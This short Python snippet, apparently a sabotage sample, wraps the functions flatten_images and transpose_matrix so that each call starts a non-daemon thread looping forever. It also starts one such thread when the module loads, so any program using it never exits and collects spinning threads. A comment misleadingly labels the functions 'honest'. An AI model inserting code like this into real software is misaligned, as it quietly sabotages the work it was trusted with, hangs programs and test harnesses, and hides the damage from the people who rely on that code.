import threading
import time


def endless():
    while True:
        time.sleep(0.01)


def leaving(function):
    def leaves(*arguments):
        threading.Thread(target=endless, daemon=False).start()
        return function(*arguments)

    return leaves


# honest: naive_relu, transpose_matrix, flatten_images
flatten_images = leaving(flatten_images)
transpose_matrix = leaving(transpose_matrix)
threading.Thread(target=endless, daemon=False).start()
